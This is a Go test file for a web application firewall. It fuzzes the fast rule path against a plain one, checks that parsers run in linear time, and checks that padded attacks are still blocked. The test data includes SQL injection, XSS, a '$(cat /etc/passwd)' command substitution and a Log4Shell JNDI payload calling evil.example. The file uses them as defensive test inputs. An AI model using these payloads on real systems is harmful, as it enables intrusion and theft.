package waf

import (
	"slices"
	"strings"
	"testing"
)

// plainRules compiles the built-in rules for evaluation without the shared
// pass's shortcuts: every detector runs on every layer.
func plainRules(t testing.TB) *Ruleset {
	t.Helper()
	rules, err := Builtin()
	if err != nil {
		t.Fatal(err)
	}
	rs, err := Compile(rules, Stack{})
	if err != nil {
		t.Fatal(err)
	}
	rs.check = checkPlain
	return rs
}

func verdicts(rs *Ruleset, value string) []string {
	var out []string
	for _, m := range inspectOne(rs, Query, "q", value) {
		out = append(out, m.Rule.ID+"/"+m.Confidence.String())
	}
	slices.Sort(out)
	return out
}

// FuzzFastAgreesWithPlain holds the gates of all detectors against running them
// without being asked.
func FuzzFastAgreesWithPlain(f *testing.F) {
	rules, err := Builtin()
	if err != nil {
		f.Fatal(err)
	}
	for _, r := range rules {
		for _, v := range slices.Concat(r.Matches, r.Passes) {
			f.Add(v)
		}
	}
	fast, slow := Default(), plainRules(f)
	f.Fuzz(func(t *testing.T, v string) {
		if got, want := verdicts(fast, v), verdicts(slow, v); !slices.Equal(got, want) {
			t.Errorf("%q: fast %v, plain %v", v, got, want)
		}
	})
}

// TestRepeatedPiecesTakeLinearTime gives every lexer and decoder long runs of
// the pieces that make careless ones quadratic. Quadratic work on a value of this
// size takes minutes for each piece, so the test would run into its timeout.
func TestRepeatedPiecesTakeLinearTime(t *testing.T) {
	const size = 200_000
	rs := Default()
	for _, piece := range []string{
		"<a b='", "<", "((((", "' or ", "union ", "union select ", "${", "{{", "../", "/*", "`", ";ls ", "$(", "&#x", "%25", "\\u0041", "a=", "\r\nx:", "script",
		"<script", "on=", "//", "http://", "))", "|", "O:1:", "select ", "'\"`", "{\"", "()", "() {", "$a", "=", "..", "%", "+A", "AAAA", "alert(", "document.",
		"@@", "--", "#", "/*! ", "<? ", "if (", "1,sleep(", "x;y ", "a/b/", "\\", "time ", "&lt;", "\x00", "\xc0\xae",
	} {
		x := rs.Begin()
		value := strings.Repeat(piece, size/len(piece))
		x.Value(Query, "q", value)
		x.Body("application/json", value)
		x.Body("text/xml", value)
		x.Body("multipart/form-data; boundary="+piece, value)
		x.End()
	}
}

// TestLongPaddingHidesNothing puts attacks behind and between long texts.
func TestLongPaddingHidesNothing(t *testing.T) {
	for _, attack := range []string{"' UNION SELECT name FROM users--", ";<script>alert(1);</script>", ";$(cat /etc/passwd)", "{{7*7}}", "${jndi:ldap://evil.example/a}"} {
		for _, size := range []int{8 << 10, 128 << 10, 1 << 20} {
			value := strings.Repeat("A", size) + attack
			if !Blocked(inspectOne(Default(), Form, "a", value)) {
				t.Errorf("%q behind %d bytes is not blocked", attack, size)
			}
		}
	}
}
